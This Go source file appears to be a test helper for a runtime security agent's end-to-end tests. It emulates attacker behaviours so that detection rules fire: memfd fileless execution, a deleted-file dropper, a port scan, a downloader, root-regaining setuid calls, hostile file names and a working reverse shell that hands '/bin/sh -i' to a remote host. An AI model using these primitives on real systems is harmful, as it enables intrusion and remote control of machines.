// Command actor performs, inside the e2e test containers, the system calls
// busybox has no applet for (memfd exec, ptrace, raw and packet sockets,
// module loading, mounts, BPF, a terminal ...). It is a multi-call binary:
// copied into the image under the name a rule looks for (xmrig, nmap,
// nginx, curl, bash ...), it acts by that name; under any name its first
// argument may name an action. Built statically by the agent's e2e test;
// never part of the product.
package main

import (
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"time"

	"github.com/cilium/ebpf"
	"github.com/cilium/ebpf/asm"
	"golang.org/x/sys/unix"
)

func main() {
	name := filepath.Base(os.Args[0])
	args := os.Args[1:]
	if f, ok := actions[name]; ok {
		exit(f(args))
	}
	if len(args) > 0 {
		if f, ok := actions[args[0]]; ok {
			exit(f(args[1:]))
		}
	}
	// A named stand-in (xmrig, kubectl, sshd ...): running is the point.
	os.Exit(0)
}

func exit(err error) {
	if err != nil {
		fmt.Fprintln(os.Stderr, "actor:", err)
		os.Exit(1)
	}
	os.Exit(0)
}

var actions map[string]func([]string) error

func init() {
	actions = map[string]func([]string) error{
		"memfd-exec":    memfdExec,
		"deleted-exec":  deletedExec,
		"ptrace":        ptraceChild,
		"raw-socket":    func([]string) error { return sock(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_TCP) },
		"packet-socket": func([]string) error { return sock(unix.AF_PACKET, unix.SOCK_RAW, int(htons(unix.ETH_P_ALL))) },
		"module":        moduleLoad,
		"mount":         mount,
		"unshare":       func([]string) error { return unix.Unshare(unix.CLONE_NEWUSER | unix.CLONE_NEWNS) },
		"bpf-load":      bpfLoad,
		"connect":       connect,
		"connect-unix":  connectUnix,
		"listen-unix":   listenUnix,
		"curl":          curl,
		"pty":           ptyRun,
		"spawn":         spawn,
		"nginx":         spawn,
		"setuid0":       func([]string) error { return syscall.Setuid(0) },
		"regain-root":   regainRoot,
		"runas":         runas,
		"revshell":      revshell,
		"comm":          comm,
		"nmap":          scan,
		"hostile":       hostile,
		"sleep":         func(a []string) error { d, _ := time.ParseDuration(a[0]); time.Sleep(d); return nil },
	}
}

func htons(v uint16) uint16 { return v<<8 | v>>8 }

// busybox returns the bytes of the image's busybox (a program to run).
func busybox() ([]byte, error) { return os.ReadFile("/bin/busybox") }

// memfdExec runs busybox's true from a memfd: fileless execution.
func memfdExec([]string) error {
	fd, err := unix.MemfdCreate("payload", 0)
	if err != nil {
		return err
	}
	b, err := busybox()
	if err != nil {
		return err
	}
	if _, err := unix.Write(fd, b); err != nil {
		return err
	}
	return unix.Exec("/proc/self/fd/"+strconv.Itoa(fd), []string{"true"}, os.Environ())
}

// deletedExec runs a program whose file is deleted before exec.
func deletedExec([]string) error {
	b, err := busybox()
	if err != nil {
		return err
	}
	p := "/tmp/dropper"
	if err := os.WriteFile(p, b, 0o755); err != nil {
		return err
	}
	fd, err := unix.Open(p, unix.O_RDONLY, 0)
	if err != nil {
		return err
	}
	if err := os.Remove(p); err != nil {
		return err
	}
	return unix.Exec("/proc/self/fd/"+strconv.Itoa(fd), []string{"sleep", "1"}, os.Environ())
}

// ptraceChild attaches to a child it starts.
func ptraceChild([]string) error {
	c := exec.Command("/bin/sleep", "10")
	if err := c.Start(); err != nil {
		return err
	}
	defer c.Process.Kill()
	err := unix.PtraceAttach(c.Process.Pid)
	if err == nil {
		var ws unix.WaitStatus
		unix.Wait4(c.Process.Pid, &ws, 0, nil)
		unix.PtraceDetach(c.Process.Pid)
	}
	return err
}

func sock(domain, typ, proto int) error {
	fd, err := unix.Socket(domain, typ, proto)
	if err != nil {
		return err
	}
	return unix.Close(fd)
}

// moduleLoad asks the kernel to load a module file (refused here: no
// module support, or no CAP_SYS_MODULE). The refusal is expected.
func moduleLoad([]string) error {
	p := "/tmp/rootkit.ko"
	if err := os.WriteFile(p, []byte("\x7fELF not a module"), 0o644); err != nil {
		return err
	}
	f, err := os.Open(p)
	if err != nil {
		return err
	}
	defer f.Close()
	err = unix.FinitModule(int(f.Fd()), "", 0)
	fmt.Println("finit_module:", err)
	return nil
}

// mount SOURCE TARGET FSTYPE [DATA]: refused in an unprivileged container.
func mount(a []string) error {
	if len(a) < 3 {
		return fmt.Errorf("mount SOURCE TARGET FSTYPE [DATA]")
	}
	data := ""
	if len(a) > 3 {
		data = a[3]
	}
	err := unix.Mount(a[0], a[1], a[2], 0, data)
	fmt.Println("mount:", err)
	if err == nil {
		unix.Unmount(a[1], 0)
	}
	return nil
}

// bpfLoad loads a two-instruction socket filter (return 0).
func bpfLoad([]string) error {
	p, err := ebpf.NewProgram(&ebpf.ProgramSpec{Type: ebpf.SocketFilter, License: "GPL",
		Instructions: asm.Instructions{asm.Mov.Imm(asm.R0, 0), asm.Return()}})
	if err != nil {
		return err
	}
	return p.Close()
}

// connect HOST PORT [WRITE]: a TCP connection (its failure is not an error).
func connect(a []string) error {
	if len(a) < 2 {
		return fmt.Errorf("connect HOST PORT")
	}
	c, err := net.DialTimeout("tcp", net.JoinHostPort(a[0], a[1]), 2*time.Second)
	if err != nil {
		fmt.Println("connect:", err)
		return nil
	}
	if len(a) > 2 {
		c.Write([]byte(a[2]))
	}
	return c.Close()
}

func connectUnix(a []string) error {
	c, err := net.DialTimeout("unix", a[0], 2*time.Second)
	if err != nil {
		fmt.Println("connect:", err)
		return nil
	}
	return c.Close()
}

func listenUnix(a []string) error {
	l, err := net.Listen("unix", a[0])
	if err != nil {
		return err
	}
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			c.Close()
		}
	}()
	d := 30 * time.Second
	if len(a) > 1 {
		d, _ = time.ParseDuration(a[1])
	}
	time.Sleep(d)
	return l.Close()
}

// curl -o FILE URL: a downloader writing a file.
func curl(a []string) error {
	var out, url string
	for i := 0; i < len(a); i++ {
		switch {
		case a[i] == "-o" && i+1 < len(a):
			out = a[i+1]
			i++
		case !strings.HasPrefix(a[i], "-"):
			url = a[i]
		}
	}
	resp, err := http.Get(url)
	if err != nil {
		return err
	}
	defer resp.Body.Close()
	w := io.Writer(os.Stdout)
	if out != "" {
		f, err := os.OpenFile(out, os.O_WRONLY|os.O_CREATE|os.O_TRUNC, 0o755)
		if err != nil {
			return err
		}
		defer f.Close()
		w = f
	}
	_, err = io.Copy(w, resp.Body)
	return err
}

// ptyRun CMD...: runs CMD with a pseudo-terminal as its controlling
// terminal (what `kubectl exec -it` gives a shell).
func ptyRun(a []string) error {
	master, err := os.OpenFile("/dev/ptmx", os.O_RDWR, 0)
	if err != nil {
		return err
	}
	defer master.Close()
	if err := unix.IoctlSetPointerInt(int(master.Fd()), unix.TIOCSPTLCK, 0); err != nil {
		return err
	}
	n, err := unix.IoctlGetInt(int(master.Fd()), unix.TIOCGPTN)
	if err != nil {
		return err
	}
	slave, err := os.OpenFile("/dev/pts/"+strconv.Itoa(n), os.O_RDWR|unix.O_NOCTTY, 0)
	if err != nil {
		return err
	}
	defer slave.Close()
	go io.Copy(io.Discard, master)
	c := exec.Command(a[0], a[1:]...)
	c.Stdin, c.Stdout, c.Stderr = slave, slave, slave
	c.SysProcAttr = &syscall.SysProcAttr{Setsid: true, Setctty: true, Ctty: 0}
	return c.Run()
}

// spawn CMD...: runs CMD as a child (a web server starting a shell).
func spawn(a []string) error {
	if len(a) == 0 {
		return nil
	}
	c := exec.Command(a[0], a[1:]...)
	c.Stdout, c.Stderr = os.Stdout, os.Stderr
	return c.Run()
}

// comm NAME PATH: renames the task (prctl PR_SET_NAME) and opens PATH.
func comm(a []string) error {
	if err := unix.Prctl(unix.PR_SET_NAME, uintptr(unsafePtr(a[0])), 0, 0, 0); err != nil {
		return err
	}
	f, err := os.Open(a[1])
	if err != nil {
		return err
	}
	return f.Close()
}

// scan HOST FROM TO: connect to a range of ports (a port scan).
func scan(a []string) error {
	if len(a) < 3 {
		return nil
	}
	from, _ := strconv.Atoi(a[1])
	to, _ := strconv.Atoi(a[2])
	for p := from; p <= to; p++ {
		if c, err := net.DialTimeout("tcp", net.JoinHostPort(a[0], strconv.Itoa(p)), 200*time.Millisecond); err == nil {
			c.Close()
		}
	}
	return nil
}

// hostile DIR: a program under a name with a newline, an escape and
// invalid UTF-8, run with a 64 KiB argv of the same.
func hostile(a []string) error {
	dir := a[0]
	b, err := busybox()
	if err != nil {
		return err
	}
	name := filepath.Join(dir, "evil\nname\x1b[31m\xff\xfe\u202e.sh")
	if err := os.WriteFile(name, b, 0o755); err != nil {
		return err
	}
	args := []string{"true"}
	for len(strings.Join(args, " ")) < 64<<10 {
		args = append(args, "arg\nwith\x1b?\xffnewline\u202e"+strings.Repeat("A", 1000))
	}
	c := exec.Command(name)
	c.Args = args
	return c.Run()
}

// regainRoot: a set-user-ID root program run by another user takes root as
// its effective uid (setresuid(-1, 0, -1)), its real uid unchanged.
func regainRoot([]string) error {
	return unix.Setresuid(-1, 0, -1)
}

// runas UID PROG ARGS...: drops to UID (group too) and runs PROG.
func runas(a []string) error {
	uid, err := strconv.Atoi(a[0])
	if err != nil {
		return err
	}
	if err := syscall.Setgroups(nil); err != nil {
		return err
	}
	if err := syscall.Setgid(uid); err != nil {
		return err
	}
	if err := syscall.Setuid(uid); err != nil {
		return err
	}
	return unix.Exec(a[1], a[1:], os.Environ())
}

// revshell HOST PORT: a reverse shell, the classic way: connect, put the
// socket on stdin, stdout and stderr, exec a shell.
func revshell(a []string) error {
	c, err := net.Dial("tcp", net.JoinHostPort(a[0], a[1]))
	if err != nil {
		return err
	}
	f, err := c.(*net.TCPConn).File()
	if err != nil {
		return err
	}
	for _, fd := range []int{0, 1, 2} {
		if err := unix.Dup2(int(f.Fd()), fd); err != nil {
			return err
		}
	}
	return unix.Exec("/bin/sh", []string{"sh", "-i"}, os.Environ())
}
